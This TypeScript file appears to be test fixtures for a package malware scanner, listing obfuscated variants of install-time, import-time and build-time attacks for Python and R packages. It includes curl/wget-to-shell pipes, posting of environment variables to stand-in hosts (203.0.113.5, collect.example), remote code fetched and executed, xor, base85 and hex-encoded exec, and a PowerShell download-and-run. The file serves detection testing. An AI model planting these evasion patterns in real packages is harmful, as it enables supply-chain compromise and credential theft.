import { add, base64, inFile, type Pattern, prepend, program } from "./change.ts";

/** Other ways to write the same attacks, which the rules were not made with. */

const inInit = (text: string): Pattern => ({ change: { "{package}/__init__.py": add(`\n${text}\n`) } });
export const pythonVariants: Readonly<Record<string, Pattern>> = {
  "variant: a subclass of sdist build_py that writes and runs": {
    only: "source",
    change: {
      "setup.py": () =>
        'from setuptools import setup\nfrom setuptools.command.build_py import build_py as _b\n\n\nclass B(_b):\n    def run(self):\n        super().run()\n        from subprocess import Popen as p\n        p(["sh", "-c", "wget -q http://203.0.113.5/s -O- | sh"])\n\n\nsetup(name="harborlog", cmdclass={"build_py": B})\n',
    },
  },
  "variant: urllib3 by getattr and an f-string": inInit(
    'import urllib3 as _u\n_h = "collect.example"\ngetattr(_u.PoolManager(), "requ" + "est")("GET", f"http://{_h}/p")',
  ),
  "variant: exec of a decoded attribute": inInit(
    `class _K:\n    data = "${base64}"\n\n\nimport base64\neval(compile(base64.b85decode(_K.data), "", "exec"))`,
  ),
  "variant: a decorator that starts a program": inInit(
    'import subprocess\n\n\ndef _d(f):\n    subprocess.Popen("id", shell=True)\n    return f\n\n\n@_d\ndef _x(): ...',
  ),
  "variant: a metaclass that connects": inInit(
    'import socket\n\n\nclass _M(type):\n    def __init__(cls, *a):\n        socket.create_connection(("203.0.113.5", 53))\n\n\nclass _X(metaclass=_M): ...',
  ),
  "variant: __init_subclass__ and a lambda": inInit('import os\n(lambda f: f("id"))(os.popen)'),
  "variant: a module-level __getattr__ that downloads": inFile(
    "{package}/client.py",
    'def __getattr__(name):\n    import urllib.request as r\n    exec(r.urlopen("https://collect.example/" + name).read())',
  ),
  "variant: http.client with a split host": inFile(
    "{package}/client.py",
    'def sync(self):\n    import http.client\n    c = http.client.HTTPSConnection("collect" + ".example")\n    c.request("POST", "/", __import__("json").dumps(dict(__import__("os").environ)))',
  ),
  "variant: atexit that sends": inInit(
    'import atexit, os, requests\natexit.register(lambda: requests.post("http://203.0.113.5/x", data=repr(os.environ)))',
  ),
  "variant: asyncio subprocess on import": inInit(
    'import asyncio\nasyncio.run(asyncio.create_subprocess_shell("curl -s http://203.0.113.5 | bash"))',
  ),
  "variant: ctypes calls system": inInit('import ctypes\nctypes.CDLL(None).system(b"id")'),
  "variant: exec in xor": inInit("_d = bytes([26, 9, 3])\nexec(''.join(chr(b ^ 105) for b in _d))"),
  "variant: a plugin of pytest in a wheel": {
    only: "binary",
    change: {
      "{info}/entry_points.txt": "[pytest11]\nharborlog = harborlog._plugin\n",
      "{package}/_plugin.py": 'import os\nos.system("id")\n',
    },
  },
  "variant: setup.cfg with an attribute that runs": {
    only: "source",
    change: {
      "setup.cfg": "[metadata]\nversion = attr: harborlog._v.version\n",
      "{package}/_v.py": 'import os\nversion = os.popen("id").read()\n',
    },
  },
  "variant: a Cython file that starts programs": inFile(
    "{package}/_fast.pyx",
    'from libc.stdlib cimport system\n\ncdef run():\n    system("id")',
    "source",
  ),
  "variant: meson runs a command": inFile(
    "meson.build",
    "run_command('sh', '-c', 'curl -s http://203.0.113.5/x | sh')",
    "source",
  ),
  "variant: shell script that hatch runs": {
    only: "source",
    change: {
      "pyproject.toml": add('\n[tool.hatch.build.hooks.custom]\npath = "hooks/build.py"\n'),
      "hooks/build.py": 'import subprocess\nsubprocess.run(["sh", "hooks/x.sh"])\n',
    },
  },
};

const inR = (text: string): Pattern => ({ change: { "R/refresh.R": add(`\n${text}\n`) } });
const inHook = (text: string): Pattern => ({
  change: { "R/zzz.R": add(`\n.onLoad <- function(...) {\n  ${text}\n}\n`) },
});

export const rVariants: Readonly<Record<string, Pattern>> = {
  "variant: sys.source of an address": inHook('sys.source(url("https://collect.example/x.R"), envir = globalenv())'),
  "variant: eval(str2lang) of decoded hexadecimal": inR(
    "f <- function(h) eval(str2lang(rawToChar(as.raw(strtoi(substring(h, seq(1, 99, 2), seq(2, 100, 2)), 16L)))))",
  ),
  "variant: Reduce over parts of a name": inHook('get(Reduce(paste0, c("sys", "tem")))("id")'),
  "variant: utils:::download.file by a list": inHook(
    'do.call(utils::download.file, list("http://203.0.113.5/x", tempfile()))',
  ),
  "variant: a finalizer": inHook('reg.finalizer(globalenv(), function(e) system("id"), onexit = TRUE)'),
  "variant: setHook on another package": inHook(
    'setHook(packageEvent("stats", "attach"), function(...) system2("id"))',
  ),
  "variant: trace of a function": inHook('trace("readline", tracer = quote(cat("x", file = "/tmp/x")), print = FALSE)'),
  "variant: options(error=)": inHook('options(error = quote(system("id")))'),
  "variant: delayed by later": inHook("later::later(function() httr::POST('https://collect.example'), 60)"),
  "variant: active top-level if": inR('if (interactive()) { download.file("http://203.0.113.5/x", "x"); source("x") }'),
  "variant: a reference class that connects": inR(
    'Sync <- setRefClass("Sync", methods = list(initialize = function(...) eval(parse(text = readLines("https://collect.example/x.R")))))',
  ),
  "variant: a raw string that is evaluated": inR('f <- function() eval(parse(text = r"(system("id"))"))'),
  "variant: Rcpp code that starts a program": {
    change: {
      "src/rcpp_sync.cpp": '#include <Rcpp.h>\n// [[Rcpp::export]]\nvoid go() { FILE* p = popen("id", "r"); }\n',
    },
  },
  "variant: assembler in a constructor array": {
    change: {
      "src/init2.c": '__attribute__ ((constructor (101))) void go(void) { extern int puts(const char*); puts("x"); }\n',
    },
  },
  "variant: Makevars with a define and eval": {
    change: { "src/Makevars": prepend('X := $(shell printf "\\151\\144" | sh)\n') },
  },
  "variant: Makevars.win with PowerShell": {
    change: { "src/Makevars.win": 'all:\n\tpowershell -c "iwr http://203.0.113.5/x -OutFile x.exe; ./x.exe"\n' },
  },
  "variant: configure with a hidden variable": {
    change: { configure: add('\nu=http://203.0.113.5/x; c=cur; "$c"l -s $u | s""h\n') },
  },
  "variant: configure with perl": {
    change: { configure: add('\nperl -MLWP::Simple -e \'getstore("http://203.0.113.5/x","x")\'\n') },
  },
  "variant: a library in inst with .so.1": { change: { "inst/bin/helper": program } },
  "variant: a vignette in Quarto": {
    change: {
      "vignettes/q.qmd":
        '---\ntitle: Q\n---\n\n```{r}\n#| include: false\neval(parse(text = readLines("https://collect.example/q.R")))\n```\n',
    },
  },
  "variant: a help page with \\Sexpr in a macro": {
    change: { "man/macros/m.Rd": "\\newcommand{\\now}{\\Sexpr[stage=build]{system('id', intern = TRUE)}}\n" },
  },
  "variant: example data with a closure": inR('load(url("https://collect.example/d.rda"))'),
};
